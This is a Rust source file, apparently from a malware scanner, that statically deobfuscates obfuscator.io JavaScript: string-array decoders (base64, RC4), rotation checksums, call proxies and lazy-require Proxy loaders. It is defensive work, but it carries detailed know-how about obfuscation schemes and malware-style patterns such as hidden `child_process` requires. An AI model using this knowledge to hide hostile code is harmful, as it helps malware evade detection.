//! Static deobfuscation, never execution: a pre-pass over a program's top-level statements
//! that finds what the constant folder ([`super::value::Env`]) can then evaluate.
//!
//! - **obfuscator.io string arrays**: a function (or variable) holding an array of string
//!   literals, a decoder function that indexes it after subtracting a constant (optionally
//!   decoding each entry from obfuscator.io's base64 alphabet, or base64 then RC4 with a
//!   per-call key), and the rotation IIFE that shifts the array until an arithmetic checksum
//!   over `parseInt(decoder(n))` equals a target (or, in older versions, a fixed number of
//!   times). The rotation is replayed on the literals with a tiny evaluator of that checksum
//!   (numbers, `+ - * / %`, unary minus, `parseInt`, decoder calls); nothing else runs.
//!   Calls of the decoder (and of its aliases, see [`Known::decoders`]) then fold to the
//!   original strings: `require(_0x3f4e(0x1a5))` is `require('child_process')`.
//! - **pure helpers**: top-level functions whose body is a single `return <expression>` over
//!   their parameters (`const k = (a, b) => a + b`, obfuscator.io's wrapper functions
//!   `function w(a, b) { return d(a - -0x2b1, b); }`), which the folder inlines with the
//!   arguments bound, within its depth limit.
//!
//! Everything is bounded: arrays up to [`MAX_STRINGS`] entries, one rotation pass of at most
//! the array's length, inlining within the folder's recursion depth.

use oxc_ast::ast::*;
use oxc_semantic::Scoping;
use oxc_syntax::operator::{AssignmentOperator, BinaryOperator, UnaryOperator};
use oxc_syntax::symbol::SymbolId;
use std::collections::HashMap;

/// Largest string array replayed.
pub const MAX_STRINGS: usize = 20_000;

/// How a decoder turns an entry into the string.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Variant {
    Plain,
    /// obfuscator.io's base64 (lowercase alphabet first), then UTF-8.
    Base64,
    /// Base64 as above, then RC4 with the call's second argument as key.
    Rc4,
}

/// A recognised string-array decoder.
#[derive(Debug, Clone, PartialEq)]
pub struct Decoder {
    /// The array after rotation.
    pub strings: Vec<String>,
    /// Subtracted from the index argument.
    pub offset: f64,
    pub variant: Variant,
    /// The decoder's base64 alphabet (64 characters), when it spells one out; obfuscator.io's
    /// (lowercase first) otherwise.
    pub alphabet: Option<Vec<u8>>,
}

impl Decoder {
    /// The string for index `i` (and RC4 `key`), if in range and decodable (NaN and
    /// out-of-range indexes give `None`).
    pub fn decode(&self, i: f64, key: Option<&str>) -> Option<String> {
        let idx = i - self.offset;
        if idx < 0.0 || idx.fract() != 0.0 {
            return None;
        }
        let raw = self.strings.get(idx as usize)?;
        match self.variant {
            Variant::Plain => Some(raw.clone()),
            Variant::Base64 => {
                let bytes = custom_base64(raw, self.alphabet.as_deref())?;
                String::from_utf8(bytes).ok()
            }
            Variant::Rc4 => {
                let bytes = custom_base64(raw, self.alphabet.as_deref())?;
                // obfuscator.io decodes the base64 to a percent-encoded UTF-8 string first,
                // then RC4s its characters.
                let text = String::from_utf8(bytes).ok()?;
                let out = rc4(
                    key?.as_bytes(),
                    &text.chars().map(|c| c as u32).collect::<Vec<_>>(),
                );
                Some(out.into_iter().filter_map(char::from_u32).collect())
            }
        }
    }
}

/// A property of a constant object literal (obfuscator.io's "transformObjectKeys" and
/// control-flow-flattening proxy objects: `{ 'xYz': 'str', 'aBc': function (f, a) { return f(a); } }`).
pub enum Prop<'a> {
    Value(&'a Expression<'a>),
    /// A single-return function: parameters and the returned expression.
    Func(Vec<SymbolId>, &'a Expression<'a>),
}

/// What the pre-pass found in one program.
#[derive(Default)]
pub struct Known<'a> {
    /// Decoder functions by symbol.
    pub decoders: HashMap<SymbolId, Decoder>,
    /// Single-return functions by symbol: parameters and the returned expression.
    pub pure: HashMap<SymbolId, (Vec<SymbolId>, &'a Expression<'a>)>,
    /// Constant object literals with static keys, by symbol.
    pub objects: HashMap<SymbolId, Vec<(String, Prop<'a>)>>,
    /// Offset of the string array, when one was found (for the fingerprint's line).
    pub array_at: Option<u32>,
    /// Functions that return a lazy-require `Proxy` (see [`lazy_require_proxy`]).
    pub lazy_loaders: std::collections::HashSet<SymbolId>,
    /// Class getters by property name (`get spender() { return … }`), for `this.spender`;
    /// a name two classes define differently is left out.
    pub getters: HashMap<String, &'a Expression<'a>>,
    /// The webpack module table, when the program is a bundle.
    pub webpack: super::webpack::Webpack,
    /// This file's path and the package's data modules it names (see
    /// [`super::DataModules`]).
    pub data_modules: Option<(String, super::DataModules)>,
}

impl Known<'_> {
    /// True when the single-return function `(params, body)` only calls its first parameter
    /// with the others (`function (f, a, b) { return f(a, b); }`): a call proxy.
    pub fn is_call_proxy(params: &[SymbolId], body: &Expression<'_>, scoping: &Scoping) -> bool {
        let Expression::CallExpression(c) = body.without_parentheses() else {
            return false;
        };
        let Expression::Identifier(id) = c.callee.without_parentheses() else {
            return false;
        };
        let callee = id
            .reference_id
            .get()
            .and_then(|r| scoping.get_reference(r).symbol_id());
        !params.is_empty() && callee == params.first().copied()
    }
}

/// Runs the pre-pass over `program`.
pub fn string_table<'a>(program: &'a Program<'a>, scoping: &Scoping, src: &str) -> Known<'a> {
    let mut known = Known::default();
    let mut found = Collected::default();
    collect(&program.body, 0, &mut found);
    for (sym, params, body) in &found.funcs {
        if let Some(sym) = sym {
            known.pure.insert(*sym, (params.clone(), *body));
        }
    }
    for (sym, props) in found.objects {
        known.objects.insert(sym, props);
    }
    known.lazy_loaders.extend(found.lazy);
    let mut twice = std::collections::HashSet::new();
    for (name, body) in found.getters {
        if known.getters.insert(name.to_string(), body).is_some() {
            twice.insert(name);
        }
    }
    for name in twice {
        known.getters.remove(name);
    }
    let stmts = top_level(program);
    // String arrays: functions returning a literal array, or variables holding one.
    let mut arrays: HashMap<SymbolId, (Vec<String>, bool)> = HashMap::new();
    for s in &stmts {
        match s {
            Statement::FunctionDeclaration(f) => {
                if let (Some(id), Some(body)) = (&f.id, &f.body)
                    && let Some(sym) = id.symbol_id.get()
                    && let Some(arr) = body.statements.iter().find_map(literal_array_decl)
                {
                    arrays.insert(sym, (arr, true));
                    known.array_at.get_or_insert(f.span.start);
                }
            }
            Statement::VariableDeclaration(d) => {
                for decl in &d.declarations {
                    let (BindingPattern::BindingIdentifier(id), Some(init)) =
                        (&decl.id, &decl.init)
                    else {
                        continue;
                    };
                    let Some(sym) = id.symbol_id.get() else {
                        continue;
                    };
                    if let Expression::ArrayExpression(a) = init.without_parentheses()
                        && let Some(arr) = string_array(a)
                    {
                        arrays.insert(sym, (arr, false));
                        known.array_at.get_or_insert(a.span.start);
                    }
                }
            }
            _ => {}
        }
    }
    if arrays.is_empty() {
        return known;
    }
    // Decoders: functions that reach an array and subtract a constant from their first
    // parameter.
    for s in &stmts {
        let (sym, f) = match s {
            Statement::FunctionDeclaration(f) => {
                match f.id.as_ref().and_then(|i| i.symbol_id.get()) {
                    Some(sym) => (sym, &**f),
                    None => continue,
                }
            }
            Statement::VariableDeclaration(d) => {
                let Some((sym, f)) = d.declarations.iter().find_map(|decl| {
                    let BindingPattern::BindingIdentifier(id) = &decl.id else {
                        return None;
                    };
                    match decl.init.as_ref()?.without_parentheses() {
                        Expression::FunctionExpression(f) => Some((id.symbol_id.get()?, &**f)),
                        _ => None,
                    }
                }) else {
                    continue;
                };
                (sym, f)
            }
            _ => continue,
        };
        if arrays.contains_key(&sym) {
            continue;
        }
        let Some(body) = &f.body else { continue };
        let text = src
            .get(body.span.start as usize..body.span.end as usize)
            .unwrap_or("");
        let Some((arr_sym, (strings, in_function))) = arrays.iter().find(|(a, _)| {
            let name = scoping.symbol_name(**a);
            text.contains(&format!("{name}(")) || text.contains(&format!("{name}["))
        }) else {
            continue;
        };
        // obfuscator.io's decoder starts by shifting its index: `a = a - 0x1d9`; since 2022 it
        // first redefines itself (`return d = function (a, b) { a = a - 0x1d9; … }, d(x, y)`)
        // and caches decoded entries, the shift then sits in the inner function.
        let Some(offset) = index_shift(f).or_else(|| redefined_shift(f)) else {
            continue;
        };
        // A literal array in a function that returns it (obfuscator.io since 2021), or a
        // variable array that a top-level IIFE rotates with push/shift (older versions).
        let rotated = stmts.iter().any(|s| {
            let Statement::ExpressionStatement(es) = s else {
                return false;
            };
            let Some((func, args)) = iife(&es.expression) else {
                return false;
            };
            let name = scoping.symbol_name(*arr_sym);
            let passes = args
                .first()
                .is_some_and(|a| matches!(a, Argument::Identifier(id) if id.name == name));
            let body = func
                .body
                .as_ref()
                .and_then(|b| src.get(b.span.start as usize..b.span.end as usize))
                .unwrap_or("");
            passes && body.contains("push") && body.contains("shift")
        });
        if !in_function && !rotated {
            continue;
        }
        let alphabet = base64_alphabet(text);
        let variant = if alphabet.is_some() {
            // RC4 XORs with its keystream (`c ^ s[(s[i] + s[j]) % 0x100]`); the base64 decoder
            // only shifts and masks. With numbers written as expressions `0x100` may not appear.
            if text.contains("0x100") || text.contains("256") || text.contains('^') {
                Variant::Rc4
            } else {
                Variant::Base64
            }
        } else {
            Variant::Plain
        };
        // obfuscator.io's own alphabet is the default; another one is kept.
        let alphabet = alphabet.filter(|a| a.as_slice() != OBFUSCATOR_IO_ALPHABET);
        let _ = arr_sym;
        known.decoders.insert(
            sym,
            Decoder {
                strings: strings.clone(),
                offset,
                variant,
                alphabet,
            },
        );
    }
    if known.decoders.is_empty() {
        return known;
    }
    // Rotation: an IIFE called with the array (or its function) and a number.
    for s in &stmts {
        let Statement::ExpressionStatement(es) = s else {
            continue;
        };
        let Some((func, args)) = iife(&es.expression) else {
            continue;
        };
        let (Some(Argument::Identifier(arr)), Some(target)) = (
            args.first(),
            args.get(1).and_then(|a| a.as_expression()).and_then(num),
        ) else {
            continue;
        };
        let Some(arr_sym) = scoping.get_reference(arr.reference_id()).symbol_id() else {
            continue;
        };
        if !arrays.contains_key(&arr_sym) {
            continue;
        }
        let Some(body) = &func.body else { continue };
        let text = src
            .get(body.span.start as usize..body.span.end as usize)
            .unwrap_or("");
        if !(text.contains("push") && text.contains("shift")) {
            continue;
        }
        let checksum = find_checksum(body);
        // Names the checksum may call: the decoders, their aliases, single-return wrappers.
        let mut names: HashMap<String, Callee<'a>> = HashMap::new();
        for sym in known.decoders.keys() {
            names.insert(scoping.symbol_name(*sym).to_string(), Callee::Decoder);
        }
        for (alias, target) in &found.aliases {
            if names
                .get(*target)
                .is_some_and(|c| matches!(c, Callee::Decoder))
            {
                names.insert(alias.to_string(), Callee::Decoder);
            }
        }
        for (sym, params, body) in &found.funcs {
            let Some(sym) = sym else { continue };
            let params: Vec<String> = params
                .iter()
                .map(|p| scoping.symbol_name(*p).to_string())
                .collect();
            names
                .entry(scoping.symbol_name(*sym).to_string())
                .or_insert(Callee::Wrapper(params, body));
        }
        for (name, offset) in raw_accessors(body) {
            names.insert(name.to_string(), Callee::RawIndex(offset));
        }
        for dec in known.decoders.values_mut() {
            rotate(dec, checksum, target, &names);
        }
        break;
    }
    known
}

/// What a name in a rotation checksum calls.
enum Callee<'a> {
    Decoder,
    Wrapper(Vec<String>, &'a Expression<'a>),
    /// A rotation loop's own accessor of the raw array (`const g = function (i) { return
    /// a[i - 0x1a4]; }`): the entry at the index minus this offset, not decoded.
    RawIndex(f64),
}

/// A constant of the checksum evaluator.
#[derive(Debug, Clone, PartialEq)]
enum Lit {
    Num(f64),
    Str(String),
}

/// Functions, aliases and constant objects found anywhere in a program.
#[derive(Default)]
struct Collected<'a> {
    /// Single-return functions: symbol (when named), parameters, returned expression.
    funcs: Vec<(Option<SymbolId>, Vec<SymbolId>, &'a Expression<'a>)>,
    /// `const alias = name` declarations.
    aliases: Vec<(&'a str, &'a str)>,
    objects: Vec<(SymbolId, Vec<(String, Prop<'a>)>)>,
    /// Named functions that return a lazy-require `Proxy`.
    lazy: Vec<SymbolId>,
    /// Class getters without parameters whose body is one `return <expression>`.
    getters: Vec<(&'a str, &'a Expression<'a>)>,
}

/// Getters of the program's classes (`get spender() { return ['0x7F', 'd1'].join(''); }`).
fn collect_class<'a>(c: &'a Class<'a>, out: &mut Collected<'a>) {
    for el in &c.body.body {
        let ClassElement::MethodDefinition(m) = el else {
            continue;
        };
        if m.kind != MethodDefinitionKind::Get || m.computed {
            continue;
        }
        let (Some(name), Some(body)) = (m.key.static_name(), &m.value.body) else {
            continue;
        };
        if let [Statement::ReturnStatement(r)] = body.statements.as_slice()
            && let Some(arg) = &r.argument
            && let PropertyKey::StaticIdentifier(id) = &m.key
        {
            let _ = name;
            out.getters.push((id.name.as_str(), arg));
        }
    }
}

/// Deepest nesting the collection follows.
const MAX_COLLECT_DEPTH: u32 = 64;

fn collect<'a>(stmts: &'a [Statement<'a>], depth: u32, out: &mut Collected<'a>) {
    if depth > MAX_COLLECT_DEPTH {
        return;
    }
    for s in stmts {
        collect_stmt(s, depth + 1, out);
    }
}

fn collect_stmt<'a>(s: &'a Statement<'a>, depth: u32, out: &mut Collected<'a>) {
    match s {
        Statement::FunctionDeclaration(f) => {
            collect_function(f, f.id.as_ref().and_then(|i| i.symbol_id.get()), depth, out)
        }
        Statement::VariableDeclaration(d) => {
            for decl in &d.declarations {
                let BindingPattern::BindingIdentifier(id) = &decl.id else {
                    if let Some(init) = &decl.init {
                        collect_expr(init, depth, out);
                    }
                    continue;
                };
                let Some(init) = &decl.init else { continue };
                let sym = id.symbol_id.get();
                match init.without_parentheses() {
                    Expression::FunctionExpression(f) => collect_function(f, sym, depth, out),
                    Expression::ArrowFunctionExpression(a) => collect_arrow(a, sym, depth, out),
                    Expression::Identifier(target) => {
                        out.aliases.push((id.name.as_str(), target.name.as_str()))
                    }
                    Expression::ObjectExpression(o) => {
                        if let Some(sym) = sym
                            && let Some(props) = constant_object(o)
                        {
                            out.objects.push((sym, props));
                        }
                        collect_expr(init, depth, out);
                    }
                    other => collect_expr(other, depth, out),
                }
            }
        }
        Statement::ExpressionStatement(e) => collect_expr(&e.expression, depth, out),
        Statement::ReturnStatement(r) => {
            if let Some(a) = &r.argument {
                collect_expr(a, depth, out);
            }
        }
        Statement::BlockStatement(b) => collect(&b.body, depth, out),
        Statement::IfStatement(i) => {
            collect_stmt(&i.consequent, depth + 1, out);
            if let Some(a) = &i.alternate {
                collect_stmt(a, depth + 1, out);
            }
        }
        Statement::ForStatement(f) => collect_stmt(&f.body, depth + 1, out),
        Statement::ForInStatement(f) => collect_stmt(&f.body, depth + 1, out),
        Statement::ForOfStatement(f) => collect_stmt(&f.body, depth + 1, out),
        Statement::WhileStatement(w) => collect_stmt(&w.body, depth + 1, out),
        Statement::DoWhileStatement(w) => collect_stmt(&w.body, depth + 1, out),
        Statement::LabeledStatement(l) => collect_stmt(&l.body, depth + 1, out),
        Statement::TryStatement(t) => {
            collect(&t.block.body, depth, out);
            if let Some(h) = &t.handler {
                collect(&h.body.body, depth, out);
            }
            if let Some(f) = &t.finalizer {
                collect(&f.body, depth, out);
            }
        }
        Statement::SwitchStatement(sw) => {
            for c in &sw.cases {
                collect(&c.consequent, depth, out);
            }
        }
        Statement::ClassDeclaration(c) => collect_class(c, out),
        Statement::ExportNamedDeclaration(_) => {}
        Statement::ExportDefaultDeclaration(e) => {
            if let ExportDefaultDeclarationKind::ClassDeclaration(c) = &e.declaration {
                collect_class(c, out);
            }
        }
        _ => {}
    }
}

/// Function bodies inside an expression (IIFEs, callbacks, assigned functions).
fn collect_expr<'a>(e: &'a Expression<'a>, depth: u32, out: &mut Collected<'a>) {
    if depth > MAX_COLLECT_DEPTH {
        return;
    }
    let depth = depth + 1;
    match e.without_parentheses() {
        Expression::FunctionExpression(f) => collect_function(f, None, depth, out),
        Expression::ArrowFunctionExpression(a) => collect_arrow(a, None, depth, out),
        Expression::CallExpression(c) => {
            collect_expr(&c.callee, depth, out);
            for a in &c.arguments {
                if let Some(x) = a.as_expression() {
                    collect_expr(x, depth, out);
                }
            }
        }
        Expression::NewExpression(c) => {
            for a in &c.arguments {
                if let Some(x) = a.as_expression() {
                    collect_expr(x, depth, out);
                }
            }
        }
        Expression::AssignmentExpression(a) => collect_expr(&a.right, depth, out),
        Expression::ClassExpression(c) => collect_class(c, out),
        Expression::SequenceExpression(s) => {
            for x in &s.expressions {
                collect_expr(x, depth, out);
            }
        }
        Expression::UnaryExpression(u) => collect_expr(&u.argument, depth, out),
        Expression::ObjectExpression(o) => {
            for p in &o.properties {
                if let ObjectPropertyKind::ObjectProperty(p) = p {
                    collect_expr(&p.value, depth, out);
                }
            }
        }
        _ => {}
    }
}

fn collect_function<'a>(
    f: &'a Function<'a>,
    sym: Option<SymbolId>,
    depth: u32,
    out: &mut Collected<'a>,
) {
    let Some(body) = &f.body else { return };
    if let Some(sym) = sym
        && returns_lazy_proxy(&body.statements)
    {
        out.lazy.push(sym);
    }
    if let [Statement::ReturnStatement(r)] = body.statements.as_slice()
        && let Some(arg) = &r.argument
        && let Some(params) = simple_params(&f.params)
    {
        out.funcs.push((sym, params, arg));
    }
    collect(&body.statements, depth, out);
}

/// True when one of `stmts` returns a lazy-require `Proxy` (see [`lazy_require_proxy`]).
fn returns_lazy_proxy(stmts: &[Statement<'_>]) -> bool {
    stmts.iter().any(|s| match s {
        Statement::ReturnStatement(r) => matches!(
            r.argument.as_ref().map(|a| a.without_parentheses()),
            Some(Expression::NewExpression(n)) if lazy_require_proxy(n)
        ),
        _ => false,
    })
}

/// `new Proxy(target, { get(t, key) { … require(f(key)) … } })`: a lazy module loader whose
/// `get` trap loads the module a property name stands for, possibly after decoding the name
/// (ROT13, reversal, a table). `$.fs.readFileSync` through it is `require('fs').readFileSync`.
pub fn lazy_require_proxy(n: &NewExpression<'_>) -> bool {
    if !matches!(&n.callee, Expression::Identifier(id) if id.name == "Proxy") {
        return false;
    }
    let Some(Expression::ObjectExpression(h)) = n
        .arguments
        .get(1)
        .and_then(|a| a.as_expression())
        .map(|e| e.without_parentheses())
    else {
        return false;
    };
    h.properties.iter().any(|p| {
        let ObjectPropertyKind::ObjectProperty(p) = p else {
            return false;
        };
        if p.key.static_name().as_deref() != Some("get") {
            return false;
        }
        let mut finder = RequireOfComputed(false);
        oxc_ast_visit::Visit::visit_expression(&mut finder, &p.value);
        finder.0
    })
}

/// Finds a `require(<not a literal>)` call.
struct RequireOfComputed(bool);

impl<'a> oxc_ast_visit::Visit<'a> for RequireOfComputed {
    fn visit_call_expression(&mut self, it: &CallExpression<'a>) {
        if matches!(&it.callee, Expression::Identifier(id) if id.name == "require")
            && !matches!(
                it.arguments.first().and_then(|a| a.as_expression()),
                Some(Expression::StringLiteral(_)) | None
            )
        {
            self.0 = true;
        }
        oxc_ast_visit::walk::walk_call_expression(self, it);
    }
}

fn collect_arrow<'a>(
    a: &'a ArrowFunctionExpression<'a>,
    sym: Option<SymbolId>,
    depth: u32,
    out: &mut Collected<'a>,
) {
    let ret = match &a.body {
        ArrowFunctionBody::FunctionBody(b) => {
            let r = match b.statements.as_slice() {
                [Statement::ReturnStatement(r)] => r.argument.as_ref(),
                _ => None,
            };
            collect(&b.statements, depth, out);
            r
        }
        other => other.as_expression(),
    };
    if let (Some(e), Some(params)) = (ret, simple_params(&a.params)) {
        out.funcs.push((sym, params, e));
    }
}

/// An object literal whose keys are all static, as properties (values or single-return
/// functions); at least three properties.
fn constant_object<'a>(o: &'a ObjectExpression<'a>) -> Option<Vec<(String, Prop<'a>)>> {
    if o.properties.len() < 3 || o.properties.len() > 4096 {
        return None;
    }
    o.properties
        .iter()
        .map(|p| {
            let ObjectPropertyKind::ObjectProperty(p) = p else {
                return None;
            };
            let key = p.key.static_name()?.to_string();
            let prop = match &p.value {
                Expression::FunctionExpression(f) => {
                    let body = f.body.as_ref()?;
                    let [Statement::ReturnStatement(r)] = body.statements.as_slice() else {
                        return Some((key, Prop::Value(&p.value)));
                    };
                    Prop::Func(simple_params(&f.params)?, r.argument.as_ref()?)
                }
                other => Prop::Value(other),
            };
            Some((key, prop))
        })
        .collect()
}

/// Accessors a rotation loop declares over the raw array it shifts (`const g = function (i)
/// { return a[i - 0x1a4]; }`, `(i) => a[i - K]`): each name with its offset. Its checksum
/// then reads undecoded entries (`parseInt(g(0x1c9))` of `'151498EhWzj'`), a variant of the
/// obfuscator.io loop that calls the decoder.
fn raw_accessors<'a>(body: &'a FunctionBody<'a>) -> Vec<(&'a str, f64)> {
    let mut out = Vec::new();
    for s in &body.statements {
        let Statement::VariableDeclaration(d) = s else {
            continue;
        };
        for decl in &d.declarations {
            let (BindingPattern::BindingIdentifier(id), Some(init)) = (&decl.id, &decl.init) else {
                continue;
            };
            let (params, ret) = match init.without_parentheses() {
                Expression::FunctionExpression(f) => {
                    let Some(b) = &f.body else { continue };
                    (&f.params, single_return(&b.statements))
                }
                Expression::ArrowFunctionExpression(a) => match &a.body {
                    ArrowFunctionBody::FunctionBody(b) => (&a.params, single_return(&b.statements)),
                    other => (&a.params, other.as_expression()),
                },
                _ => continue,
            };
            let [param] = params.items.as_slice() else {
                continue;
            };
            let BindingPattern::BindingIdentifier(p) = &param.pattern else {
                continue;
            };
            let Some(Expression::ComputedMemberExpression(m)) =
                ret.map(|r| r.without_parentheses())
            else {
                continue;
            };
            let Expression::BinaryExpression(b) = m.expression.without_parentheses() else {
                continue;
            };
            let names_param = matches!(b.left.without_parentheses(), Expression::Identifier(i) if i.name == p.name);
            let offset = match (b.operator, num(&b.right)) {
                (BinaryOperator::Subtraction, Some(k)) => k,
                (BinaryOperator::Addition, Some(k)) => -k,
                _ => continue,
            };
            if names_param && matches!(m.object.without_parentheses(), Expression::Identifier(_)) {
                out.push((id.name.as_str(), offset));
            }
        }
    }
    out
}

/// The expression of a body that is one `return <expression>`.
fn single_return<'a>(stmts: &'a [Statement<'a>]) -> Option<&'a Expression<'a>> {
    match stmts {
        [Statement::ReturnStatement(r)] => r.argument.as_ref(),
        _ => None,
    }
}

/// Replays the rotation on `dec.strings`.
fn rotate(
    dec: &mut Decoder,
    checksum: Option<&Expression<'_>>,
    target: f64,
    names: &HashMap<String, Callee<'_>>,
) {
    let n = dec.strings.len();
    if n == 0 {
        return;
    }
    match checksum {
        Some(expr) => {
            for _ in 0..n {
                if eval(expr, dec, names, &[], 0) == Some(Lit::Num(target)) {
                    return;
                }
                dec.strings.rotate_left(1);
            }
        }
        None => {
            let k = (target.max(0.0) as usize) % n;
            dec.strings.rotate_left(k);
        }
    }
}

/// The checksum expression of a new-style rotation loop: the initializer of the variable
/// compared with the target (`const v = -parseInt(d(0x1e4))/0x1 + …; if (v === t) break;`).
fn find_checksum<'a>(body: &'a FunctionBody<'a>) -> Option<&'a Expression<'a>> {
    fn in_stmts<'a>(stmts: &'a [Statement<'a>]) -> Option<&'a Expression<'a>> {
        for s in stmts {
            let found = match s {
                Statement::VariableDeclaration(d) => d.declarations.iter().find_map(|decl| {
                    let init = decl.init.as_ref()?;
                    mentions_parse_int(init).then_some(init)
                }),
                Statement::WhileStatement(w) => in_stmt(&w.body),
                Statement::ForStatement(f) => in_stmt(&f.body),
                Statement::DoWhileStatement(w) => in_stmt(&w.body),
                Statement::BlockStatement(b) => in_stmts(&b.body),
                Statement::TryStatement(t) => in_stmts(&t.block.body),
                _ => None,
            };
            if found.is_some() {
                return found;
            }
        }
        None
    }
    fn in_stmt<'a>(s: &'a Statement<'a>) -> Option<&'a Expression<'a>> {
        in_stmts(std::slice::from_ref(s))
    }
    in_stmts(&body.statements)
}

fn mentions_parse_int(e: &Expression<'_>) -> bool {
    match e.without_parentheses() {
        Expression::CallExpression(c) => {
            matches!(&c.callee, Expression::Identifier(id) if id.name == "parseInt")
        }
        Expression::BinaryExpression(b) => {
            mentions_parse_int(&b.left) || mentions_parse_int(&b.right)
        }
        Expression::UnaryExpression(u) => mentions_parse_int(&u.argument),
        _ => false,
    }
}

/// Evaluates a checksum: numbers, strings, arithmetic, unary minus, `parseInt`, calls of the
/// decoder (by name or alias) and of single-return wrappers (parameters bound by name).
fn eval(
    e: &Expression<'_>,
    dec: &Decoder,
    names: &HashMap<String, Callee<'_>>,
    binds: &[(String, Lit)],
    depth: u32,
) -> Option<Lit> {
    if depth > 16 {
        return None;
    }
    let num = |x: Option<Lit>| match x {
        Some(Lit::Num(n)) => Some(n),
        _ => None,
    };
    match e.without_parentheses() {
        Expression::NumericLiteral(n) => Some(Lit::Num(n.value)),
        Expression::StringLiteral(s) => Some(Lit::Str(s.value.to_string())),
        Expression::Identifier(id) => binds
            .iter()
            .rev()
            .find(|(n, _)| n == id.name.as_str())
            .map(|(_, v)| v.clone()),
        Expression::UnaryExpression(u) if u.operator == UnaryOperator::UnaryNegation => Some(
            Lit::Num(-num(eval(&u.argument, dec, names, binds, depth + 1))?),
        ),
        Expression::UnaryExpression(u) if u.operator == UnaryOperator::UnaryPlus => Some(Lit::Num(
            num(eval(&u.argument, dec, names, binds, depth + 1))?,
        )),
        Expression::BinaryExpression(b) => {
            let l = num(eval(&b.left, dec, names, binds, depth + 1))?;
            let r = num(eval(&b.right, dec, names, binds, depth + 1))?;
            Some(Lit::Num(match b.operator {
                BinaryOperator::Addition => l + r,
                BinaryOperator::Subtraction => l - r,
                BinaryOperator::Multiplication => l * r,
                BinaryOperator::Division => l / r,
                BinaryOperator::Remainder => l % r,
                _ => return None,
            }))
        }
        Expression::CallExpression(c) => {
            let Expression::Identifier(id) = c.callee.without_parentheses() else {
                return None;
            };
            let args: Vec<Option<Lit>> = c
                .arguments
                .iter()
                .map(|a| {
                    a.as_expression()
                        .and_then(|x| eval(x, dec, names, binds, depth + 1))
                })
                .collect();
            if id.name == "parseInt" {
                return match args.first() {
                    Some(Some(Lit::Str(s))) => Some(Lit::Num(parse_int(s))),
                    Some(Some(Lit::Num(n))) => Some(Lit::Num(n.trunc())),
                    _ => Some(Lit::Num(f64::NAN)),
                };
            }
            match names.get(id.name.as_str())? {
                Callee::Decoder => {
                    let Some(Some(Lit::Num(i))) = args.first() else {
                        return None;
                    };
                    let key = match args.get(1) {
                        Some(Some(Lit::Str(k))) => Some(k.as_str()),
                        _ => None,
                    };
                    dec.decode(*i, key).map(Lit::Str)
                }
                Callee::RawIndex(offset) => {
                    let Some(Some(Lit::Num(i))) = args.first() else {
                        return None;
                    };
                    let idx = i - offset;
                    if idx < 0.0 || idx.fract() != 0.0 {
                        return None;
                    }
                    dec.strings.get(idx as usize).cloned().map(Lit::Str)
                }
                Callee::Wrapper(params, body) => {
                    let mut b: Vec<(String, Lit)> = binds.to_vec();
                    for (p, a) in params.iter().zip(args) {
                        if let Some(a) = a {
                            b.push((p.clone(), a));
                        }
                    }
                    eval(body, dec, names, &b, depth + 1)
                }
            }
        }
        _ => None,
    }
}

/// JavaScript's `parseInt(s)` in base 10 (NaN when no digits).
pub fn parse_int(s: &str) -> f64 {
    let t = s.trim_start();
    let (neg, t) = match t.as_bytes().first() {
        Some(b'-') => (true, &t[1..]),
        Some(b'+') => (false, &t[1..]),
        _ => (false, t),
    };
    let digits: String = t.chars().take_while(|c| c.is_ascii_digit()).collect();
    if digits.is_empty() {
        return f64::NAN;
    }
    let v: f64 = digits.parse().unwrap_or(f64::NAN);
    if neg { -v } else { v }
}

/// A constant number: a literal, or unary minus and `+ - * / %` over constants
/// (obfuscator.io's numbers-to-expressions option writes `0x1a8d+-0x9ee+-0x1*0x109e`).
fn num(e: &Expression<'_>) -> Option<f64> {
    num_d(e, 0)
}

fn num_d(e: &Expression<'_>, depth: u32) -> Option<f64> {
    if depth > 32 {
        return None;
    }
    match e.without_parentheses() {
        Expression::NumericLiteral(n) => Some(n.value),
        Expression::UnaryExpression(u) if u.operator == UnaryOperator::UnaryNegation => {
            Some(-num_d(&u.argument, depth + 1)?)
        }
        Expression::UnaryExpression(u) if u.operator == UnaryOperator::UnaryPlus => {
            num_d(&u.argument, depth + 1)
        }
        Expression::BinaryExpression(b) => {
            let l = num_d(&b.left, depth + 1)?;
            let r = num_d(&b.right, depth + 1)?;
            let v = match b.operator {
                BinaryOperator::Addition => l + r,
                BinaryOperator::Subtraction => l - r,
                BinaryOperator::Multiplication => l * r,
                BinaryOperator::Division => l / r,
                BinaryOperator::Remainder => l % r,
                _ => return None,
            };
            v.is_finite().then_some(v)
        }
        _ => None,
    }
}

/// The statements at the top of the program, and inside a top-level IIFE wrapper
/// (`(function () { … })()`, `!function () { … }()`), where obfuscated code often sits.
fn top_level<'a>(program: &'a Program<'a>) -> Vec<&'a Statement<'a>> {
    let mut out: Vec<&'a Statement<'a>> = program.body.iter().collect();
    for s in &program.body {
        if let Statement::ExpressionStatement(es) = s
            && let Some((f, _)) = iife(&es.expression)
            && let Some(body) = &f.body
        {
            out.extend(body.statements.iter());
        }
    }
    out
}

/// `(function (…) { … })(args)` or `!function…(args)`: the function and the arguments.
fn iife<'a>(e: &'a Expression<'a>) -> Option<(&'a Function<'a>, &'a [Argument<'a>])> {
    let e = match e.without_parentheses() {
        Expression::UnaryExpression(u) => u.argument.without_parentheses(),
        Expression::SequenceExpression(s) => s.expressions.first()?.without_parentheses(),
        other => other,
    };
    let Expression::CallExpression(c) = e else {
        return None;
    };
    match c.callee.without_parentheses() {
        Expression::FunctionExpression(f) => Some((f, &c.arguments)),
        _ => None,
    }
}

/// `const a = ['…', …]` among a function's statements.
fn literal_array_decl(s: &Statement<'_>) -> Option<Vec<String>> {
    let Statement::VariableDeclaration(d) = s else {
        return None;
    };
    d.declarations
        .iter()
        .find_map(|decl| match decl.init.as_ref()?.without_parentheses() {
            Expression::ArrayExpression(a) => string_array(a),
            _ => None,
        })
}

/// An array literal of at least 5 string literals (and nothing else).
fn string_array(a: &ArrayExpression<'_>) -> Option<Vec<String>> {
    if a.elements.len() < 5 || a.elements.len() > MAX_STRINGS {
        return None;
    }
    a.elements
        .iter()
        .map(|el| match el.as_expression() {
            Some(Expression::StringLiteral(s)) => Some(s.value.to_string()),
            _ => None,
        })
        .collect()
}

/// The constant a decoder's first statement subtracts from its first parameter
/// (`a = a - 0x1d9`, `a -= 0x1d9`, `a = a - -0x12`).
fn index_shift(f: &Function<'_>) -> Option<f64> {
